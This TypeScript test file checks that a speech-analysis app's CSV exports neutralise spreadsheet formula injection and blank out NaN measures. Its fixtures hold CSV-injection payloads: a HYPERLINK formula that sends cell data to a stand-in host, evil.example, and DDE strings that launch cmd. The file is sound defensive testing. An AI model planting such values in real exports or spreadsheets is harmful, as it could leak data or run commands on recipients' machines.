// CSV exports open safely in a spreadsheet (issue 14): text that would run as a formula is shown as
// text, numbers stay numbers, and an undefined measure is an empty cell, never "NaN".
import { describe, expect, it } from 'vitest';
import type { AnalysisView } from '../../shared/types/analysis-view';
import type { RecordingSummary } from '../../shared/types/library';
import { resultsToCsv } from '../ml/pipeline/reports/results-csv';
import { csvCell, neutraliseFormula } from './csv-cell';
import { tableRows, toCsv } from './table-export';

const recording: RecordingSummary = {
  id: '00000000-0000-4000-8000-000000000000',
  originalName: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  source: 'import',
  format: 'wav/pcm16',
  durationS: 3.2,
  sizeBytes: 100,
  contentHash: 'x',
  createdAt: '2025-01-01T10:00:00.000Z',
  label: null,
  modelId: null,
  reviewed: true,
  analyzedAt: '2025-01-01T10:00:01.000Z',
  caption: '+cmd|" /C calc"!A0',
};
/** A silent clip: no pitch, no syllables — its measures are undefined. */
const silent = {
  recordingId: recording.id,
  analysisId: 1,
  analyzedAt: '2025-01-01T10:00:01.000Z',
  durationS: 3.2,
  tracks: { frameStepS: 0.01, f0Hz: [], voicedProbability: [], semitones: [], intensityDb: [], isSpeech: [] },
  syllables: [],
  pauses: [],
  speech: [],
  levels: { pitch: 'low', energy: 'low', speed: 'slow', calibration: 'ravdess', mode: 'corpus' },
  caption: '@SUM(1+1)*cmd|" /C calc"!A0',
  summary: {
    medianF0Hz: Number.NaN,
    pitchRangeSt: Number.NEGATIVE_INFINITY,
    intonation: 'flat',
    articulationRateSylPerS: Number.NaN,
    syllableCount: 0,
    pauseCount: 0,
    totalPauseS: 0,
  },
  explanation: null,
  calibration: null,
  timings: {},
} as unknown as AnalysisView; // NaN where the type says number | null: what a careless producer hands over
const review = {
  recordingId: recording.id,
  label: 'happy',
  labelDecision: 'corrected' as const,
  ratings: { factualAlignment: 4, interpretativeQuality: 3, captionCompleteness: 5, fluency: 2 },
  notes: '-2+3 then\tmore',
  reviewer: '\tDr. Lee',
  patient: '',
  sessionDate: '',
  sessionDetails: '',
  createdAt: '2025-01-01T11:00:00.000Z',
  updatedAt: '2025-01-01T11:05:00.000Z',
};

describe('CSV cells', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'])('neutralises %j with a leading apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves numbers (negative ones too) and ordinary text alone', () => {
    for (const text of ['-3.25', '+4', '1e-3', '-.5', 'sad', 'a=b', '']) expect(neutraliseFormula(text)).toBe(text);
    expect(csvCell(-3.25)).toBe('-3.25');
  });

  it('makes NaN and infinite numbers empty cells', () => {
    expect([csvCell(Number.NaN), csvCell(Number.POSITIVE_INFINITY), csvCell(null)]).toEqual(['', '', '']);
  });
});

describe('the table export of the library', () => {
  const rows = tableRows([{ recording, analysis: silent, review }]);
  const [header, line] = toCsv(rows).split('\r\n');
  const cells = Object.fromEntries(header!.split(',').map((name, i) => [name, parseCsvLine(line!)[i]]));

  it('turns a file name, caption, notes or reviewer that starts a formula into text', () => {
    expect(cells.name).toBe(`'${recording.originalName}`);
    expect(cells.caption).toBe(`'${silent.caption}`);
    expect(cells.notes).toBe(`'${review.notes}`);
    expect(cells.reviewer).toBe(`'${review.reviewer}`);
  });

  it('writes the undefined measures of a silent clip as empty cells in CSV and null in JSON', () => {
    expect([cells.median_f0_hz, cells.pitch_range_st, cells.articulation_rate_syl_per_s]).toEqual(['', '', '']);
    expect(toCsv(rows)).not.toMatch(/NaN|Infinity/);
    expect(rows[0]).toMatchObject({ median_f0_hz: null, pitch_range_st: null, articulation_rate_syl_per_s: null });
  });
});

describe('the CLI results CSV', () => {
  it('neutralises a file name that starts a formula', () => {
    const csv = resultsToCsv(['sad'], [], [{ file: '=cmd|" /C calc"!A0.wav', code: 'corrupt', message: '@bad' }]);
    const line = parseCsvLine(csv.split('\r\n')[1]!);
    expect(line[0]).toBe(`'=cmd|" /C calc"!A0.wav`);
    expect(line).toContain(`'@bad`);
  });
});

/** RFC 4180 fields of one line (enough for these tests: no line breaks inside fields). */
function parseCsvLine(line: string): string[] {
  const fields: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let value = '';
      at++;
      while (at < line.length) {
        if (line[at] === '"' && line[at + 1] === '"') {
          value += '"';
          at += 2;
        } else if (line[at] === '"') break;
        else value += line[at++];
      }
      fields.push(value);
      at += 2; // closing quote and comma
    } else {
      const end = line.indexOf(',', at);
      fields.push(line.slice(at, end < 0 ? line.length : end));
      at = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return fields;
}
